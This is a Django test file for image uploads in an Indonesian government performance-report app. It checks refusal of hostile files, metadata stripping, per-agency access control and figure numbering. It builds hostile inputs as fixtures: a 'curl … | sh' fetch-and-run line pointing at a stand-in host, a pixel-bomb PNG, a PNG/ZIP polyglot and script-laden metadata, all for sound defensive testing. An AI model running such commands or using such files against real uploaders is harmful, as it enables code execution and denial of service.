"""Images planners upload for the report (`instansi.gambar`): hostile files are refused
with a reason and nothing stored, what is stored is re-encoded, another agency's image is
never served, and the report numbers the images as «Gambar» and lists them."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse
from PIL import Image, PngImagePlugin

from instansi.models import BerkasGambar, GambarLaporan
from sakip.lkjip.data import kumpulkan
from sakip.lkjip.render import html_laporan
from sakip.lkjip.susun import susun
from tests.factories import buat_instansi, buat_pemeran

TAHUN = 2022


def png(lebar=40, tinggi=30, **simpan) -> bytes:
    keluaran = io.BytesIO()
    Image.new("RGB", (lebar, tinggi), "navy").save(keluaran, "PNG", **simpan)
    return keluaran.getvalue()


def potongan_png(jenis: bytes, isi: bytes) -> bytes:
    return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", zlib.crc32(jenis + isi))


def bom_piksel() -> bytes:
    """A PNG whose header claims 20000 × 20000 pixels: 400 million to decode from a few bytes."""
    kepala = struct.pack(">IIBBBBB", 20000, 20000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + potongan_png(b"IHDR", kepala)
        + potongan_png(b"IDAT", zlib.compress(b"\0" * 60001))
        + potongan_png(b"IEND", b"")
    )


def dengan_zip() -> bytes:
    arsip = io.BytesIO()
    with zipfile.ZipFile(arsip, "w") as z:
        z.writestr("bukan-gambar.html", "<script>alert(1)</script>")
    return png() + arsip.getvalue()


class UnggahGambarTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.a = buat_instansi("dinas-a")
        cls.b = buat_instansi("dinas-b")
        cls.perencana, cls.perencana_b, cls.pemeriksa = buat_pemeran(cls.a, cls.b)

    def unggah(self, nama: str, isi: bytes, tempat="proses-bisnis", instansi=None):
        instansi = instansi or self.a
        data = {
            "judul": "Peta Proses Bisnis Dinas",
            "alt": "Alur layanan dari permohonan sampai laporan.",
            "tempat": tempat,
            "urutan": "1",
            "versi": "0",
            "berkas_baru": SimpleUploadedFile(nama, isi, content_type="image/png"),
        }
        return self.client.post(reverse("gambar-baru", args=[instansi.slug, TAHUN]), data)

    def test_hostile_files_are_refused_with_a_reason_and_nothing_is_stored(self):
        self.client.force_login(self.perencana)
        kasus = {
            "html.png": (
                b"<!DOCTYPE html><html><body>Halo</body></html>",
                "bukan gambar PNG, JPEG atau WebP",
            ),
            "skrip.png": (
                b"#!/bin/sh\ncurl http://contoh.invalid | sh\n",
                "bukan gambar PNG, JPEG atau WebP",
            ),
            "terpotong.png": (png()[:60], "terpotong"),
            "bom.png": (bom_piksel(), "juta piksel"),
            "polyglot.png": (dengan_zip(), "Ada data lain setelah akhir gambar"),
        }
        for nama, (isi, pesan) in kasus.items():
            with self.subTest(nama):
                respons = self.unggah(nama, isi)
                self.assertEqual(respons.status_code, 200)
                self.assertContains(respons, f"«{nama}» ditolak")
                self.assertContains(respons, pesan)
        self.assertEqual(GambarLaporan.objects.count(), 0)
        self.assertEqual(BerkasGambar.objects.count(), 0)

    def test_what_is_stored_is_the_image_re_encoded_without_its_metadata(self):
        self.client.force_login(self.perencana)
        keterangan = PngImagePlugin.PngInfo()
        keterangan.add_text("Comment", "<script>alert(1)</script>")
        asli = png(pnginfo=keterangan)
        respons = self.unggah("peta.png", asli)
        self.assertRedirects(respons, reverse("gambar-daftar", args=[self.a.slug, TAHUN]))
        gambar = GambarLaporan.objects.get()
        tersimpan = bytes(gambar.berkas.isi)
        self.assertNotEqual(tersimpan, asli)
        self.assertNotIn(b"script", tersimpan)
        self.assertEqual((gambar.berkas.format, gambar.berkas.lebar, gambar.berkas.tinggi), ("png", 40, 30))
        self.assertEqual(gambar.history.count(), 1)  # versioned like every row planners edit

    def test_an_image_is_served_only_to_readers_of_its_agency(self):
        self.client.force_login(self.perencana)
        self.unggah("peta.png", png())
        gambar = GambarLaporan.objects.get()
        alamat = reverse("gambar-berkas", args=[self.a.slug, TAHUN, gambar.pk])
        respons = self.client.get(alamat)
        self.assertEqual(respons.status_code, 200)
        self.assertEqual(respons["Content-Type"], "image/png")
        self.assertEqual(respons["X-Content-Type-Options"], "nosniff")
        self.assertEqual(respons.content, bytes(gambar.berkas.isi))
        self.client.force_login(self.perencana_b)
        self.assertEqual(self.client.get(alamat).status_code, 404)
        # Nor through B's own address: the image belongs to A.
        lewat_b = reverse("gambar-berkas", args=[self.b.slug, TAHUN, gambar.pk])
        self.assertEqual(self.client.get(lewat_b).status_code, 404)
        self.client.force_login(self.pemeriksa)  # A's region's reviewer reads it
        self.assertEqual(self.client.get(alamat).status_code, 200)

    def test_the_report_numbers_uploaded_images_as_gambar_and_lists_them(self):
        self.client.force_login(self.perencana)
        self.unggah("peta.png", png())
        dokumen = susun(kumpulkan(self.a, TAHUN))
        [gambar] = [g for g in dokumen.daftar_grafik if g.kunci.startswith("unggahan-")]
        self.assertRegex(gambar.nomor, r"^Gambar 1\.\d+$")
        self.assertEqual(gambar.judul, "Peta Proses Bisnis Dinas")
        web = html_laporan(dokumen, web=True)
        alamat = reverse("gambar-berkas", args=[self.a.slug, TAHUN, GambarLaporan.objects.get().pk])
        self.assertIn(f'<img src="{alamat}" alt="Alur layanan dari permohonan sampai laporan."', web)
        self.assertIn("DAFTAR GAMBAR", web)
        self.assertIn(f"{gambar.nomor} Peta Proses Bisnis Dinas</a>", web)
        cetak = html_laporan(dokumen)
        self.assertIn('<img src="data:image/png;base64,', cetak)  # WeasyPrint fetches nothing
        self.assertNotIn(alamat, cetak)

    def test_a_reviewer_may_not_upload(self):
        self.client.force_login(self.pemeriksa)
        self.assertEqual(self.unggah("peta.png", png()).status_code, 403)
        self.assertEqual(BerkasGambar.objects.count(), 0)


class TempatGambarTests(TestCase):
    def test_every_place_a_planner_may_choose_has_one_slot_in_each_layout(self):
        from sakip.lkjip.susunan import LAMPIRAN, SUSUNAN, B

        for susunan, bab in SUSUNAN.items():
            blok = [i.kunci for b in bab for bg in b.bagian for i in bg.isi if isinstance(i, B)]
            blok += [i.kunci for bg in LAMPIRAN for i in bg.isi if isinstance(i, B)]
            for tempat in GambarLaporan.Tempat.values:
                with self.subTest(susunan=susunan, tempat=tempat):
                    self.assertEqual(blok.count(f"gambar-{tempat}"), 1)
